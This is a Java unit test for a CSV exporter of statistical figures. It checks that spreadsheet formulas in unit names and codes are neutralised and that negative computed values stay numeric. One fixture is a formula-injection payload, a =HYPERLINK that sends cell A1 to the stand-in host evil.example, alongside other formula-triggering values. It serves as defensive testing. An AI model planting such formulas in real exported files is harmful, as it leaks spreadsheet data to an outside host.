package vn.qms.stats.metrics;

import java.math.BigDecimal;
import java.util.List;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The CSV of {@code figures}: names that came from spreadsheets never run as formulas
 * when the file is opened in a spreadsheet; the numbers stay numbers.
 */
class FigureCsvTests {

	@Test
	void shouldNeutraliseUnitNamesAndCodesThatWouldRunAsFormulas() {
		// given names sent in a spreadsheet
		Figure link = new Figure("units_total", Branch.ALL, "@SUM(A1:A9)",
				"=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")", "2020", null, null, new BigDecimal("3"));
		Figure tab = new Figure("units_total", Branch.ALL, "-1+1", "\tcmd", "2020", null, null, new BigDecimal("4"));
		// when
		StringBuilder csv = new StringBuilder();
		FigureCsv.write(List.of(link, tab), csv);
		// then
		assertThat(csv.toString().lines()).containsExactly(
				"figure,branch,unit_code,unit_name,period,numerator,denominator,value",
				"units_total,all,\"'@SUM(A1:A9)\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm vào đây\"\")\",2020,,,3",
				"units_total,all,\"'-1+1\",\"'\tcmd\",2020,,,4");
	}

	@Test
	void shouldKeepANegativeComputedNumberANumber() {
		// given a change the product computed, and a plain unit
		Figure change = new Figure("units_compliant_change", Branch.ALL, "VN", "Việt Nam", "2020", null, null,
				new BigDecimal("-2"));
		// when
		StringBuilder csv = new StringBuilder();
		FigureCsv.write(List.of(change), csv);
		// then
		assertThat(csv.toString().lines()).last().isEqualTo("units_compliant_change,all,VN,Việt Nam,2020,,,-2");
	}

}
